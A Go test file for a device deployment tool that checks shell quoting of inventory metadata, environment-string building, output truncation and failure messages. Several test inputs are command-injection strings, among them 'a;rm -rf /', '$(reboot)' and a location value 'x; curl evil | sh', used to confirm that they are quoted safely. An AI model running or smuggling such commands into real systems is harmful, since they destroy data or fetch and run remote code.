package deploy

import (
	"strings"
	"testing"

	"github.com/emilejacobs/rollout/internal/inventory"
)

func TestShellQuote(t *testing.T) {
	tests := []struct {
		in, want string
	}{
		{"plain", "plain"},
		{"rpi-london-001", "rpi-london-001"},
		{"51.5074", "51.5074"},
		{"", "''"},
		{"two words", "'two words'"},
		{"a;rm -rf /", "'a;rm -rf /'"},
		{"$(reboot)", "'$(reboot)'"},
		{"it's", `'it'"'"'s'`},
		{"`cmd`", "'`cmd`'"},
	}
	for _, tt := range tests {
		if got := shellQuote(tt.in); got != tt.want {
			t.Errorf("shellQuote(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestBuildEnv(t *testing.T) {
	h := inventory.Host{
		Name:     "rpi-london-001",
		Location: "London W1",
		Client:   "Acme",
		Lat:      "51.5",
	}
	env := BuildEnv(h, "tok-123")

	want := "DEVICE_NAME=rpi-london-001 LOCATION='London W1' CLIENT=Acme LATITUDE=51.5 ZABBIX_API_TOKEN=tok-123"
	if env != want {
		t.Errorf("BuildEnv = %q, want %q", env, want)
	}
}

func TestBuildEnvSkipsEmptyMetadata(t *testing.T) {
	env := BuildEnv(inventory.Host{Name: "x"}, "")
	if env != "DEVICE_NAME=x" {
		t.Errorf("BuildEnv = %q", env)
	}
}

func TestBuildEnvQuotesHostileMetadata(t *testing.T) {
	h := inventory.Host{
		Name:     "dev",
		Location: "x; curl evil | sh",
	}
	env := BuildEnv(h, "")
	if strings.Contains(env, "LOCATION=x;") {
		t.Fatalf("metadata reached the command unquoted: %q", env)
	}
	if !strings.Contains(env, "LOCATION='x; curl evil | sh'") {
		t.Errorf("unexpected quoting: %q", env)
	}
}

func TestTruncateTail(t *testing.T) {
	long := strings.Repeat("a", 300) + "TAIL"
	got := truncateTail(long, 200)
	if len(got) != 203 {
		t.Errorf("truncated length = %d, want 203", len(got))
	}
	if !strings.HasPrefix(got, "...") {
		t.Errorf("missing ellipsis marker: %q", got[:10])
	}
	if !strings.HasSuffix(got, "TAIL") {
		t.Error("tail of the stream must be kept")
	}

	if got := truncateTail("short", 200); got != "short" {
		t.Errorf("short input must pass through, got %q", got)
	}
}

func TestFailureMessage(t *testing.T) {
	if got := failureMessage(""); got != "script exited with non-zero status" {
		t.Errorf("empty stderr: %q", got)
	}
	if got := failureMessage("  boom\n"); got != "boom" {
		t.Errorf("stderr should be trimmed: %q", got)
	}
	long := strings.Repeat("x", 500)
	if got := failureMessage(long); len(got) > 203 {
		t.Errorf("failure message unbounded: %d bytes", len(got))
	}
}
